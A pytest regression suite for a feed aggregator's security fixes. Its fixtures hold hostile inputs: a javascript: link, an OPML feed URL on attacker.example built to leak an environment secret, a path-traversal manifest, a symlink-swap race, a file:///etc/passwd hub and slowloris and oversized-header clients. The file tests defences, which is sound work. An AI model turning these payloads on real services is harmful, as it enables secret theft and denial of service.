"""Regression tests for the security review (issue 11), one section per finding.

Each test reproduces what a hostile source, seed file, reader client, OPML
file or an operator mistake did on the code before the fix, against the real
parts (a real HTTP server on 127.0.0.1, the real CLI, real files). The map
from threat to defence to test is ``docs/security.md``.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import select
import shutil
import socket
import subprocess
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from lxml import etree
from pytest_httpserver import HTTPServer

from aggregator.config import load_config
from aggregator.errors import ConfigError, PublishError, SeedFileError
from aggregator.model import Outcome, SourceResult
from aggregator.publish import MANIFEST_NAME, Document, Site, TopicFeed, render_site, write_tree
from aggregator.sources.files import read_seed
from aggregator.text.tags import language_tag
from aggregator.update import open_context, update_all
from aggregator.web import MAX_HEADER_BYTES, DocumentStore, create_app

from .conftest import REPO, run_cli
from .daemonkit import free_port, get, running, wait_for
from .publish_helpers import RunningServer, free_socket, make_story, make_topic, run_server


def write_config(tmp_path: Path, sources: list[str], *, extra: str = "", topics: str = "") -> Path:
    lines = [
        f"data_dir: {tmp_path / 'var'}",
        "server: {base_url: 'http://127.0.0.1:8080/'}",
        "allow_networks: ['127.0.0.0/8']",
        extra,
        "sources:",
        *(f"  - {s}" for s in sources),
        "topics:",
        "  - {name: zebra, query: zebra}",
        topics,
    ]
    path = tmp_path / "aggregator.yaml"
    path.write_text("\n".join(lines) + "\n")
    return path


# -- 1 and 8: hostile fields in a source's own metadata ---------------------------

HOSTILE_JSON_FEED = {
    "version": "https://jsonfeed.org/version/1.1",
    "title": "Zebra JSON",
    "home_page_url": "http://e.com/\u0001",
    "items": [
        {
            "id": "j1",
            "url": "http://example.org/j1",
            "title": "Zebra with a control character in its language",
            "content_html": "<p>Zebra content.</p>",
            "language": "en\u0001",
            "date_published": "2026-03-05T08:00:00Z",
        }
    ],
}

HOSTILE_RSS = b"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0"><channel>
<title>Script Times</title><link>javascript:alert(1)</link><description>d</description>
<item><title>Zebra via a script link</title><link>http://example.org/s1</link><guid>s1</guid>
<pubDate>Mon, 02 Mar 2026 10:00:00 GMT</pubDate><description>A zebra.</description></item>
</channel></rss>
"""


def test_hostile_feed_fields_neither_stop_publishing_nor_leave_as_links(
    httpserver: HTTPServer, tmp_path: Path
) -> None:
    httpserver.expect_request("/hostile.json").respond_with_data(
        json.dumps(HOSTILE_JSON_FEED), content_type="application/feed+json"
    )
    httpserver.expect_request("/script.rss").respond_with_data(
        HOSTILE_RSS, content_type="application/rss+xml"
    )
    config = write_config(
        tmp_path,
        [
            f"{{name: hostile, url: '{httpserver.url_for('/hostile.json')}'}}",
            f"{{name: script, url: '{httpserver.url_for('/script.rss')}'}}",
        ],
    )
    updated = run_cli(config, "update")
    assert updated.returncode == 0, updated.stderr
    out = tmp_path / "out"
    published = run_cli(config, "publish", "--out", str(out))
    assert published.returncode == 0, published.stderr

    atom = (out / "topics" / "zebra.atom").read_bytes()
    root = etree.fromstring(atom)  # well-formed, so every reader can read it
    titles = sorted(t.text for t in root.iter("{http://www.w3.org/2005/Atom}title"))
    assert "Zebra via a script link" in titles
    assert "Zebra with a control character in its language" in titles
    for name in (
        "topics/zebra.atom",
        "topics/zebra.rss",
        "topics/zebra.json",
        "topics/zebra/index.html",
    ):
        body = (out / name).read_text(encoding="utf-8")
        assert "javascript:" not in body, name
        assert "\u0001" not in body and "\\u0001" not in body, name
    feed = json.loads((out / "topics" / "zebra.json").read_text(encoding="utf-8"))
    # The bad tag is dropped; what is published (declared or detected) is a valid tag.
    languages = [item["language"] for item in feed["items"] if "language" in item]
    assert all(language_tag(lang) == lang for lang in languages), languages


def test_one_unrenderable_topic_does_not_stop_the_others() -> None:
    site = Site(base_url="https://news.example.org/", title="t")
    good = TopicFeed(make_topic("good"), (make_story(1),))
    # A private topic whose token no URL can carry fails to render on its own.
    bad = TopicFeed(make_topic("bad", private=True, tokens=("no/slash",)), ())
    errors: list[PublishError] = []
    docs = render_site(site, [bad, good], on_error=errors.append)
    assert "topics/good.atom" in docs
    assert not any("bad" in path for path in docs if path.startswith(("topics/", "private/")))
    assert len(errors) == 1 and "'bad'" in str(errors[0])


# -- 2: OPML import never expands the environment ---------------------------------


def test_imported_opml_values_never_expand_environment(tmp_path: Path) -> None:
    opml = tmp_path / "feeds.opml"
    opml.write_text(
        '<?xml version="1.0"?><opml version="2.0"><head><title>x</title></head><body>'
        '<outline type="rss" text="Leak ${SECRET_FOR_TEST}" '
        'xmlUrl="https://attacker.example/feed?k=${SECRET_FOR_TEST}&amp;d=$${X}"/>'
        "</body></opml>"
    )
    config = write_config(tmp_path, ["{name: local, url: 'https://example.org/feed'}"])
    env = {"SECRET_FOR_TEST": "hunter2"}
    proc = run_cli(config, "import-opml", str(opml), env=env)
    assert proc.returncode == 0, proc.stderr
    os.environ["SECRET_FOR_TEST"] = "hunter2"
    try:
        loaded = load_config(config)
    finally:
        del os.environ["SECRET_FOR_TEST"]
    (imported,) = [s for s in loaded.sources if s.name != "local"]
    assert imported.location == "https://attacker.example/feed?k=${SECRET_FOR_TEST}&d=$${X}"
    assert imported.title == "Leak ${SECRET_FOR_TEST}"


def test_config_dollar_escape_keeps_benign_values(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("FEED_TOKEN", "t0k")
    config = write_config(
        tmp_path,
        [
            "{name: a, url: 'https://example.org/feed?k=${FEED_TOKEN}'}",
            "{name: b, url: 'https://example.org/p$$q?x=$${FEED_TOKEN}'}",
        ],
    )
    sources = {s.name: s.location for s in load_config(config).sources}
    assert sources["a"] == "https://example.org/feed?k=t0k"
    assert sources["b"] == "https://example.org/p$$q?x=${FEED_TOKEN}"


# -- 3: configured headers stay with their origin; discovery is bounded ------------


@pytest.fixture
def other_origin() -> Iterator[HTTPServer]:
    """A second real server: another port on 127.0.0.1 is another origin."""
    server = HTTPServer(host="127.0.0.1", port=0)
    server.start()
    try:
        yield server
    finally:
        server.clear()
        server.stop()


def update_source(config_path: Path, name: str) -> SourceResult:
    config = load_config(config_path)
    ctx = open_context(config)
    try:
        spec = next(s for s in config.sources if s.name == name)
        return asyncio.run(update_all(ctx, [spec]))[0]
    finally:
        ctx.close()


def page_linking(server: HTTPServer, n: int) -> str:
    """An HTML page whose head links ``n`` RSS feeds on ``server``."""
    links = "".join(
        f'<link rel="alternate" type="application/rss+xml" href="{server.url_for(f"/f{i}.rss")}">'
        for i in range(n)
    )
    return f"<!doctype html><html><head>{links}</head><body>zebra</body></html>"


def test_discovery_keeps_headers_home_and_tries_a_handful(
    httpserver: HTTPServer, other_origin: HTTPServer, tmp_path: Path
) -> None:
    page = page_linking(other_origin, 2000)
    httpserver.expect_request("/page").respond_with_data(page, content_type="text/html")
    other_origin.expect_request("/f1.rss").respond_with_data(
        HOSTILE_RSS, content_type="application/rss+xml"
    )
    other_origin.no_handler_status_code = 404
    config = write_config(
        tmp_path,
        [
            f"{{name: site, url: '{httpserver.url_for('/page')}', "
            "headers: {X-Api-Key: s3cret, Authorization: 'Bearer s3cret'}}"
        ],
    )
    result = update_source(config, "site")
    assert result.outcome is Outcome.OK, result.error
    assert httpserver.log[0][0].headers["X-Api-Key"] == "s3cret"  # the configured origin
    requests = [r for r, _ in other_origin.log]
    assert [r.path for r in requests] == ["/f0.rss", "/f1.rss"]
    assert all("X-Api-Key" not in r.headers and "Authorization" not in r.headers for r in requests)


def test_discovery_stops_after_a_handful_of_candidates(
    httpserver: HTTPServer, other_origin: HTTPServer, tmp_path: Path
) -> None:
    page = page_linking(other_origin, 2000)
    httpserver.expect_request("/page").respond_with_data(page, content_type="text/html")
    other_origin.no_handler_status_code = 404
    config = write_config(tmp_path, [f"{{name: site, url: '{httpserver.url_for('/page')}'}}"])
    result = update_source(config, "site")
    assert result.outcome is not Outcome.OK
    assert "no usable feed" in (result.error or "")
    assert len(other_origin.log) == 5  # discover.MAX_CANDIDATES: a handful, not 2,000


# -- 5: request heads are bounded in size and time (the real server, real sockets) ---


@pytest.fixture
def served() -> Iterator[RunningServer]:
    store = DocumentStore(
        {"topics/zebra.atom": render_site(SITE, [ZEBRA])["topics/zebra.atom"]},
        topics={"zebra": ZEBRA.topic},
    )
    app = create_app(store)
    with run_server(app, free_socket(), header_timeout=1.0) as server:
        yield server


SITE = Site(base_url="https://news.example.org/", title="t")
ZEBRA = TopicFeed(make_topic("zebra"), (make_story(1),))


def read_until_closed(sock: socket.socket, deadline: float) -> bytes:
    """Everything the server sends until it closes the connection (or ``deadline``)."""
    sock.settimeout(0.5)
    data = b""
    while time.monotonic() < deadline:
        try:
            chunk = sock.recv(65536)
        except TimeoutError:
            continue
        except ConnectionResetError:
            return data  # closed (with a reset): what was read before it stands
        if not chunk:
            return data
        data += chunk
    raise AssertionError(f"connection still open at the deadline; got {data[:200]!r}")


def test_huge_request_head_gets_431_and_the_server_keeps_serving(served: RunningServer) -> None:
    deadline = time.monotonic() + 60
    with socket.create_connection(("127.0.0.1", served.port)) as sock:
        sock.sendall(b"GET /topics/zebra.atom HTTP/1.1\r\nHost: x\r\nX-Big: ")
        sock.settimeout(5)
        answer = b""
        sent = 0
        # Keep sending header bytes (up to 64 MiB) until the server answers.
        while sent < 64 * 2**20 and not answer and time.monotonic() < deadline:
            try:
                sock.sendall(b"a" * 65536)
                sent += 65536
            except (BrokenPipeError, ConnectionResetError):
                break
            readable, _, _ = select.select([sock], [], [], 0)
            if readable:
                answer = sock.recv(65536)
        answer += read_until_closed(sock, deadline) if answer or sent else b""
    assert answer.startswith(b"HTTP/1.1 431 "), answer[:200]
    # Refused while the head was still coming (socket buffers hold a few MiB).
    assert sent < 16 * 2**20
    assert httpx.get(served.base_url + "topics/zebra.atom").status_code == 200


def test_benign_large_headers_are_still_served(served: RunningServer) -> None:
    response = httpx.get(
        served.base_url + "topics/zebra.atom", headers={"X-Long": "b" * (MAX_HEADER_BYTES // 2)}
    )
    assert response.status_code == 200


def test_slowloris_connection_is_closed(served: RunningServer) -> None:
    deadline = time.monotonic() + 60
    with socket.create_connection(("127.0.0.1", served.port)) as sock:
        sock.sendall(b"GET /topics/zebra.atom HTTP/1.1\r\nHost: x\r\n")
        sock.settimeout(0.2)
        answer = b""
        # Trickle one header line at a time, as a slowloris client does,
        # until the server gives up on us (or the test's deadline passes).
        while time.monotonic() < deadline:
            try:
                chunk = sock.recv(65536)
                if not chunk:
                    break
                answer += chunk
            except TimeoutError:
                pass
            except ConnectionResetError:
                break
            try:
                sock.sendall(b"X-Trickle: 1\r\n")
            except (BrokenPipeError, ConnectionResetError):
                break
        else:
            raise AssertionError("a slowloris connection stayed open for 60 s")
    assert answer.startswith(b"HTTP/1.1 408 "), answer[:200]


def test_idle_connection_is_closed(served: RunningServer) -> None:
    with socket.create_connection(("127.0.0.1", served.port)) as sock:
        assert read_until_closed(sock, time.monotonic() + 60) == b""


def test_pipelined_and_kept_alive_requests_are_unaffected(served: RunningServer) -> None:
    request = b"GET /topics/zebra.atom HTTP/1.1\r\nHost: x\r\n\r\n"
    last = b"GET /topics/zebra.atom HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
    with socket.create_connection(("127.0.0.1", served.port)) as sock:
        # 600 pipelined requests in one write: far more than the head limit in one chunk.
        sock.sendall(request * 600 + last)
        data = read_until_closed(sock, time.monotonic() + 60)
    assert data.count(b"HTTP/1.1 200 OK\r\n") == 601


# -- 10: a private topic answers exactly like a missing one --------------------------


def raw_get(port: int, path: str) -> bytes:
    """The whole response to one ``Connection: close`` GET, minus its ``Date`` line."""
    with socket.create_connection(("127.0.0.1", port)) as sock:
        sock.sendall(f"GET {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode())
        data = read_until_closed(sock, time.monotonic() + 60)
    return b"\r\n".join(line for line in data.split(b"\r\n") if not line.startswith(b"date:"))


def test_private_topic_404_is_byte_identical_to_a_missing_one() -> None:
    secret = TopicFeed(make_topic("secret", private=True, tokens=("t0ken",)), (make_story(1),))
    docs = render_site(SITE, [ZEBRA, secret])
    app = create_app(DocumentStore(docs, topics={"zebra": ZEBRA.topic, "secret": secret.topic}))
    with run_server(app, free_socket()) as server:
        found = raw_get(server.port, "/private/t0ken/topics/secret")
        assert found.startswith(b"HTTP/1.1 200 ")
        assert b"\r\nreferrer-policy: no-referrer\r\n" in found
        missing = raw_get(server.port, "/topics/nothing.atom")
        assert missing.startswith(b"HTTP/1.1 404 ")
        for probe in (
            "/topics/secret.atom",
            "/topics/secret",
            "/private/wrong/topics/secret.atom",
            "/private/wrong/topics/nothing.atom",
        ):
            assert raw_get(server.port, probe) == missing, probe


# -- 1 through the daemon: it starts and serves despite a bad stored field -------------


def daemon_config(tmp_path: Path, port: int, sources: list[str]) -> Path:
    config = tmp_path / "aggregator.yaml"
    config.write_text(
        f"data_dir: {tmp_path / 'var'}\n"
        f"server: {{host: 127.0.0.1, port: {port}}}\n"
        "allow_networks: ['127.0.0.0/8']\n"
        "sources:\n" + "".join(f"  - {s}\n" for s in sources) + "topics:\n"
        "  - {name: zebra, query: zebra}\n"
    )
    return config


def test_daemon_starts_over_a_hostile_stored_entry(httpserver: HTTPServer, tmp_path: Path) -> None:
    httpserver.expect_request("/hostile.json").respond_with_data(
        json.dumps(HOSTILE_JSON_FEED), content_type="application/feed+json"
    )
    port = free_port()
    config = daemon_config(
        tmp_path, port, [f"{{name: hostile, url: '{httpserver.url_for('/hostile.json')}'}}"]
    )
    # The hostile entry is stored before the daemon starts, as after an earlier run.
    updated = run_cli(config, "update")
    assert updated.returncode == 0, updated.stderr
    base = f"http://127.0.0.1:{port}/"
    with running(config) as daemon:
        try:
            wait_for(lambda: get(f"{base}topics/zebra.atom")[0] == 200, 60, "the daemon to serve")
        except AssertionError:
            raise AssertionError(daemon.log()[-2000:]) from None
        atom = get(f"{base}topics/zebra.atom")[1]
        assert b"Zebra with a control character in its language" in atom
        etree.fromstring(atom)


# -- 6: neither /healthz, nor the log, nor the stored error shows a URL's secrets -------


def test_source_secrets_never_leave_in_error_texts(httpserver: HTTPServer, tmp_path: Path) -> None:
    httpserver.expect_request("/private-feed").respond_with_data("nope", status=500)
    port = free_port()
    secret_url = httpserver.url_for("/private-feed?api_key=s3cret").replace(
        "http://", "http://reader:pa55word@"
    )
    config = daemon_config(tmp_path, port, [f"{{name: secretive, url: '{secret_url}'}}"])
    base = f"http://127.0.0.1:{port}/"
    with running(config) as daemon:

        def failing() -> list[dict[str, object]]:
            status, body = get(f"{base}healthz")
            return json.loads(body)["failing"] if status in (200, 503) else []

        (entry,) = wait_for(failing, 60, "the failing source in /healthz")
        _, body = get(f"{base}healthz")
        assert entry["source"] == "secretive"
        assert b"HTTP 500" in body
        assert b"s3cret" not in body and b"pa55word" not in body and b"/private-feed" not in body
        wait_for(lambda: "HTTP 500" in daemon.log(), 60, "the failure in the log")
        assert "s3cret" not in daemon.log() and "pa55word" not in daemon.log()
    sources = run_cli(config, "sources", "--json")
    assert sources.returncode == 0, sources.stderr
    (stored,) = json.loads(sources.stdout)
    assert "HTTP 500" in stored["last_error"]
    assert "s3cret" not in stored["last_error"] and "pa55word" not in stored["last_error"]


# -- 7: the shipped nginx config, in a real nginx, keeps private feeds private --------

NGINX = shutil.which("nginx") or "/usr/sbin/nginx"
SHIPPED_NGINX = REPO / "config" / "nginx-aggregator.conf"


@pytest.fixture
def nginx_export(tmp_path: Path) -> Iterator[tuple[int, Path]]:
    """A real nginx on a loopback port running the shipped site config over an export."""
    if not Path(NGINX).exists():
        pytest.skip("nginx is not installed (Debian package 'nginx-light')")
    secret = TopicFeed(make_topic("secret", private=True, tokens=("t0ken",)), (make_story(2),))
    export = tmp_path / "export"
    write_tree(export, render_site(SITE, [ZEBRA, secret]))
    port = free_port()
    site = SHIPPED_NGINX.read_text()
    assert "listen 127.0.0.1:8080;" in site and "root /srv/aggregator;" in site
    site = site.replace("listen 127.0.0.1:8080;", f"listen 127.0.0.1:{port};")
    site = site.replace("root /srv/aggregator;", f"root {export};")
    (tmp_path / "site.conf").write_text(site)
    temp = tmp_path / "nginx-temp"
    temp.mkdir()
    conf = tmp_path / "nginx.conf"
    conf.write_text(
        # root owns the export (0750 private/), so the workers run as root here;
        # a deployment puts nginx's user in the export's group instead.
        f"daemon off; user root; worker_processes 1; pid {tmp_path}/nginx.pid;\n"
        f"error_log {tmp_path}/error.log warn;\n"
        "events { worker_connections 64; }\n"
        f"http {{ access_log {tmp_path}/access.log;\n"
        f"  client_body_temp_path {temp}/b; proxy_temp_path {temp}/p; fastcgi_temp_path {temp}/f;\n"
        f"  uwsgi_temp_path {temp}/u; scgi_temp_path {temp}/s;\n"
        f"  include {tmp_path}/site.conf; }}\n"
    )
    command = [NGINX, "-p", str(tmp_path), "-e", str(tmp_path / "error.log"), "-c", str(conf)]
    checked = subprocess.run([*command, "-t"], capture_output=True, text=True, timeout=60)
    assert checked.returncode == 0, checked.stderr
    proc = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    try:
        wait_for(lambda: get(f"http://127.0.0.1:{port}/")[0] == 200, 30, "nginx to serve")
        yield port, tmp_path / "access.log"
    finally:
        proc.terminate()
        proc.wait(timeout=30)
        assert proc.stderr is not None
        proc.stderr.close()


def test_nginx_serves_private_feeds_as_private(nginx_export: tuple[int, Path]) -> None:
    port, access_log = nginx_export
    base = f"http://127.0.0.1:{port}"
    public = httpx.get(f"{base}/topics/zebra.atom")
    assert public.status_code == 200
    assert public.headers["cache-control"] == "max-age=300"
    for path in ("secret.atom", "secret.rss", "secret.json", "secret"):
        private = httpx.get(f"{base}/private/t0ken/topics/{path}")
        assert private.status_code == 200, path
        assert private.headers["cache-control"] == "private, max-age=300", path
        assert private.headers["x-robots-tag"] == "noindex, nofollow", path
        assert private.headers["referrer-policy"] == "no-referrer", path
    assert httpx.get(f"{base}/private/t0ken/.aggregator-manifest.json").status_code == 404
    assert httpx.get(f"{base}/private/t0ken/topics/.hidden.atom").status_code == 404
    # nginx writes a request's log line when it finishes it: the public one is there.
    log = wait_for(
        lambda: access_log.read_text() if "zebra.atom" in access_log.read_text() else "",
        30,
        "the access log line of the public request",
    )
    assert "t0ken" not in log


# -- 11: the static export trusts neither its manifest nor its folders ---------------


def export_docs() -> dict[str, Document]:
    secret = TopicFeed(make_topic("secret", private=True, tokens=("t0ken",)), (make_story(2),))
    return render_site(SITE, [ZEBRA, secret])


def test_export_manifest_naming_outside_files_is_refused(tmp_path: Path) -> None:
    export = tmp_path / "export"
    write_tree(export, export_docs())
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    (export / MANIFEST_NAME).write_text(json.dumps({"files": ["../victim.txt"]}))
    with pytest.raises(PublishError, match="outside the export"):
        write_tree(export, export_docs())
    assert victim.read_text() == "keep me"


def test_export_refuses_a_symlinked_folder(tmp_path: Path) -> None:
    export = tmp_path / "export"
    export.mkdir()
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (export / "topics").symlink_to(elsewhere)
    with pytest.raises(PublishError, match="symlinked folder"):
        write_tree(export, export_docs())
    assert list(elsewhere.iterdir()) == []


def test_export_removal_does_not_follow_a_symlinked_folder(tmp_path: Path) -> None:
    export = tmp_path / "export"
    write_tree(export, export_docs())
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "zebra.rss").write_text("not ours")
    shutil.rmtree(export / "topics")
    (export / "topics").symlink_to(elsewhere)
    with pytest.raises(PublishError, match="symlinked folder"):
        write_tree(export, {k: v for k, v in export_docs().items() if k != "topics/zebra.rss"})
    assert (elsewhere / "zebra.rss").read_text() == "not ours"


def test_export_private_part_is_not_world_readable(tmp_path: Path) -> None:
    export = tmp_path / "export"
    write_tree(export, export_docs())
    (export / "private").chmod(0o755)  # as an earlier version left it
    write_tree(export, export_docs())
    for path in (export / "private").rglob("*"):
        expected = 0o750 if path.is_dir() else 0o640
        assert path.stat().st_mode & 0o777 == expected, path
    assert (export / "private").stat().st_mode & 0o777 == 0o750
    assert (export / "topics" / "zebra.atom").stat().st_mode & 0o777 == 0o644


# -- 9: a seed swapped for a symlink between check and read is never followed ---------


def test_seed_symlink_swap_race_never_reads_outside(tmp_path: Path) -> None:
    root = tmp_path / "seeds"
    root.mkdir()
    outside = tmp_path / "outside.txt"
    outside.write_text("SECRET outside the seed folder")
    seed = root / "a.txt"
    benign = root / "benign.txt"
    benign.write_text("a benign seed")
    link = root / "link.tmp"
    stop = threading.Event()

    def swap() -> None:
        # Flip a.txt between a regular file and a symlink to a file outside.
        while not stop.is_set():
            os.replace(benign_copy(), seed)
            with contextlib.suppress(FileNotFoundError):
                link.unlink()
            link.symlink_to(outside)
            os.replace(link, seed)

    counter = iter(range(10**9))

    def benign_copy() -> Path:
        copy = root / f"copy{next(counter) % 2}.tmp"
        copy.write_text("a benign seed")
        return copy

    swapper = threading.Thread(target=swap, daemon=True)
    swapper.start()
    reads = leaks = 0
    deadline = time.monotonic() + 10
    try:
        # A bounded stress window: the swapper races the reader for it.
        while reads < 20_000 and time.monotonic() < deadline:
            reads += 1
            try:
                data = read_seed(root, "a.txt", source="seeds", max_bytes=1000)
            except SeedFileError:
                continue
            leaks += b"SECRET" in data
    finally:
        stop.set()
        swapper.join(timeout=30)
    assert reads > 100
    assert leaks == 0, f"read the outside file {leaks} times in {reads} reads"


# -- 12: the WebSub hub is an http(s) URL, pinged through the guarded fetcher ---------


def test_hub_must_be_an_http_url(tmp_path: Path) -> None:
    config = write_config(tmp_path, [], extra="site: {hub: 'file:///etc/passwd'}")
    with pytest.raises(ConfigError, match=r"site\.hub.*http\(s\)"):
        load_config(config)


def test_hub_ping_does_not_follow_a_redirect(
    httpserver: HTTPServer, other_origin: HTTPServer, tmp_path: Path
) -> None:
    # other_origin stands in for the link-local address a hostile hub redirects to.
    httpserver.expect_request("/hub", method="POST").respond_with_data(
        "", status=302, headers={"Location": other_origin.url_for("/metadata")}
    )
    seeds = tmp_path / "seeds"
    seeds.mkdir()
    (seeds / "first.txt").write_text("Zebra talks open\n\nThe zebra talks went on all day.\n")
    port = free_port()
    config = tmp_path / "aggregator.yaml"
    config.write_text(
        f"data_dir: {tmp_path / 'var'}\n"
        f"server: {{host: 127.0.0.1, port: {port}}}\n"
        "allow_networks: ['127.0.0.0/8']\n"
        f"site: {{hub: '{httpserver.url_for('/hub')}'}}\n"
        f"sources:\n  - {{name: seeds, path: '{seeds}'}}\n"
        "topics:\n  - {name: zebra, query: zebra}\n"
    )
    base = f"http://127.0.0.1:{port}/"
    with running(config) as daemon:
        wait_for(lambda: b"Zebra talks open" in get(f"{base}topics/zebra.atom")[1], 60, "serve")
        (seeds / "second.txt").write_text("Zebra border opens\n\nThe zebra border opened.\n")
        try:
            wait_for(lambda: "HTTP 302" in daemon.log(), 60, "the hub's 302 in the log")
        except AssertionError:
            print(daemon.log())
            raise
    pings = [r for r, _ in httpserver.log if r.path == "/hub"]
    assert pings and pings[0].form["hub.mode"] == "publish"
    assert other_origin.log == []
